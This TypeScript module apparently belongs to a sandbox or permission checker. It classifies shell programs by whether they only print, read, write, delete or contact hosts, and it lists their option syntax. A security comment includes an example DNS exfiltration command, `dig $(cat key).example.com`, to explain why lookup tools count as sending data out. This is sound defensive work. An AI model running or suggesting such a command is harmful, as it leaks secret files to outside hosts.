/**
 * Programs without surprises: what they read, write or leave alone is in their words.
 *
 * @module
 */
import type { ProgramRow } from "./read_row.ts";

const ownerOptions = "-cfvRhHLP recursive changes silent quiet verbose dereference " +
  "no-dereference preserve-root no-preserve-root from: reference<~";

export const simplePrograms: readonly ProgramRow[] = [
  // Nothing but print, wait, or look at names.
  ["whoami logname hostid nproc arch uname tty id", "", "", "tame"],
  [
    "groups who w users last uptime free vmstat iostat lscpu lsblk lsusb lspci lsmod hostname " +
    "getconf locale cal sleep usleep expr factor sum jot ps pgrep pidof pstree kill pkill " +
    "killall top htop tput clear reset stty sync acpi lsb_release sw_vers fortune cowsay figlet " +
    "banner neofetch dnsdomainname",
  ],
  [
    "du df stat which whereis whatis apropos realpath readlink " +
    "pathchk namei getfacl getfattr lsattr lsof mountpoint findmnt printenv locate mdfind tldr " +
    "yes fuser netstat ifconfig route arp dmesg journalctl loginctl hostnamectl " +
    "timedatectl localectl pbcopy pbpaste xclip xsel notify-send logger",
  ],
  [
    "tree",
    "-",
    "o> L: P: I: H: T: fromfile filelimit: timefmt: charset: sort: -adflqrtuvxhDJXCFnN",
  ],
  ["man", "-", "P,pager$ H,html* C,config-file* M,manpath: S,sections: l,local-file"],
  ["info", "-", "o,output> restore* f< d: n:"],
  ["ss", "-", "D,diag> F,filter< f: A:"],
  ["bc", "<"],
  ["ls dir vdir exa eza lsd", "-", "I,ignore: w,width: T,tabsize: hide: time-style:", "names"],
  // Read what they name.
  ["cat", "<", "", "same"],
  ["tac", "<", "s,separator:"],
  ["head tail", "<", "n,lines: c,bytes: s,sleep-interval: pid: max-unchanged-stats:", "filter"],
  ["cut", "<", "d,delimiter: f,fields: b,bytes: c,characters: output-delimiter:"],
  ["paste", "<", "d,delimiters:"],
  ["comm diff3 cmp sdiff", "<", "n,bytes: i,ignore-initial: o,output> w,width: -ls"],
  [
    "diff colordiff",
    "<",
    "-abBdiNpqrstTuwyEZlc U,unified: C,context: I: x,exclude: X,exclude-from< L,label: W,width: " +
    "F: S: from-file< to-file< color? output: strip-trailing-cr side-by-side recursive",
  ],
  ["join", "<", "a: e: i j: o: t: v: 1: 2:"],
  ["wc", "<", "files0-from< -clmwL", "count"],
  ["seq", "", "f,format: s,separator: -w", "tame"],
  ["nl od hexdump hd strings base64 base32 basenc", "<", "A: t: N: j: S: w: n: s: f: e: w,wrap:"],
  ["rev fold fmt expand unexpand pr column look shuf ul colrm", "<", "w: t: s: o,output> n: d:"],
  ["tr", "-"],
  ["file", "<", "f,files-from< m,magic-file: F: e,exclude: P:"],
  ["more most pg zcat zmore zless bzcat xzcat zstdcat lz4cat bat batcat", "<", "pager$ l: r: H:"],
  ["less", "<", "o,log-file> O,LOG-FILE> k,lesskey-file< p: t: T: x: y: z: j: P: b: h:"],
  [
    "md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum b3sum cksum shasum md5 crc32",
    "<",
    "a,algorithm: l,length:",
  ],
  [
    "tsort iconv nm objdump readelf size ldd otool addr2line c++filt pahole",
    "<",
    "f: t: o,output>",
  ],
  [
    "cloc tokei scc sloccount wdiff vimdiff icdiff delta glow mdcat",
    "<",
    "pager$ out> report-file>",
  ],
  ["jq jaq gojq", "-<", "f,from-file<~ arg2: argjson2: slurpfile2< rawfile2< L: indent: tab"],
  [
    "yq",
    "-<",
    "i,inplace! s,split-exp* f,from-file< o,output-format: p,input-format: I,indent: -nrPCMeNj",
  ],
  ["xmllint", "<", "o,output> shell* xpath: schema< dtdvalid< relaxng<"],
  ["xsltproc", "<", "o,output> stringparam2: param2:"],
  [
    "pandoc",
    "<",
    "o,output> log> F,filter* L,lua-filter* f: t: from: to: template< extract-media>",
  ],
  ["dot neato circo", "<", "o> T: K: G: N: E: -O"],
  ["ffmpeg convert magick inkscape", ">"],
  ["ffprobe identify exiv2 mediainfo", "<"],
  // Write what they name.
  ["tee", ">", "-aip append ignore-interrupts output-error?", "copy"],
  ["sponge", ">", "-a"],
  ["sort", "<", sortOptions(), "filter"],
  [
    "uniq",
    "<>",
    "-cdDiuz f,skip-fields: s,skip-chars: w,check-chars: all-repeated? group?",
    "filter",
  ],
  ["rm", "x", rmOptions()],
  ["unlink rmdir", "x", "-pv parents verbose ignore-fail-on-non-empty"],
  ["trash trash-put rimraf del-cli", "x", "-rfidgG"],
  ["shred", ">", "-fuvxz force n,iterations: s,size: random-source< remove? verbose exact zero"],
  ["wipe srm", "x", "-rfivs"],
  ["truncate", ">", "-co s,size: r,reference< no-create io-blocks"],
  ["touch", "+", "-acfhm d,date: t: r,reference< time: no-create no-dereference"],
  ["mkdir", "+", "-pvZ m,mode: parents verbose context?"],
  ["mkfifo", "+", "-Z m,mode: context?"],
  ["mknod", "+---", "-Z m,mode: context?"],
  ["fallocate", ">", "-cdixnpvz l,length: o,offset:"],
  ["chmod", "-m", `${ownerOptions} ${chmodModes()}`],
  ["chown chgrp chcon", "-o", ownerOptions],
  ["setcap setfattr xattr attr", "m", "-r n: v: x: w: d: s: R"],
  ["xxd", "<>", "-abeipruECdP c,cols: g: l,len: n: o: s,seek: R: -v"],
  ["uuencode", "<-", "-m"],
  ["dos2unix unix2dos mac2unix", ">", "-bfkqosu c,convmode: n,newfile"],
  ["rename prename rename.ul", "*x", "-vnf e:"],
  ["vidir vipe vipw vigr visudo", ">"],
  ["objcopy strip", "<>", "o> -gsSxXdpDvV R: j: K: N: I: O: strip-all strip-debug"],
  ["ranlib", ">"],
  ["logrotate", "*", "s,state>"],
  ["setsebool setenforce restorecon", "m"],
  // Talk to hosts and change nothing here.
  ["ping ping6 traceroute tracepath mtr fping", "@", "c: i: I: s: t: w: W: q: m: p: M: f: Q:"],
  // SECURITY: a name that is looked up is data that leaves: `dig $(cat key).example.com`.
  ["dig host nslookup drill", "@", "f< k< p: q: t: c: b: x: y:"],
  ["getent", "-@", "s:"],
  ["whois telnet ftp tftp rlogin rsh finger", "@", "h@ p: l:"],
  ["nmap", "@", "oN> oX> oG> oA> script* i,iL<"],
  [
    "redis-cli mongosh mongo psql_isready pg_isready",
    "",
    "h@ p: a: n: u@ host@ rdb> functions-rdb> eval* f*",
  ],
  [
    "psql",
    "-",
    "h,host@ p,port: U,username: d,dbname: c,command* f,file* o,output> L,log-file> v:",
  ],
  ["pg_dump pg_dumpall", "-", "h,host@ p,port: U,username: d,dbname: f,file> t: n: F: T: s"],
  ["pg_restore", "<", "h,host@ p,port: U,username: d,dbname: f,file> t: n: F: L< j:"],
  ["mysql mariadb", "-", "h,host@ P,port: u,user: D,database: e,execute* p? tee> init-command*"],
  ["mysqldump", "-", "h,host@ P,port: u,user: p? r,result-file> T,tab>"],
];

function sortOptions(): string {
  return "-bdfghiMnRrVcCmsuz o,output> T,temporary-directory: k,key: t,field-separator: " +
    "S,buffer-size: files0-from< compress-program$ random-source< parallel: batch-size: reverse " +
    "sort: unique numeric-sort";
}

function rmOptions(): string {
  return "-rRfiIdv recursive force interactive? dir verbose one-file-system preserve-root? " +
    "no-preserve-root";
}

/** SECURITY: `chmod -x FILE` has its mode where options stand. */
function chmodModes(): string {
  return [..."rwxXstugoa"].map((letter) => `${letter}?~`).join(" ");
}
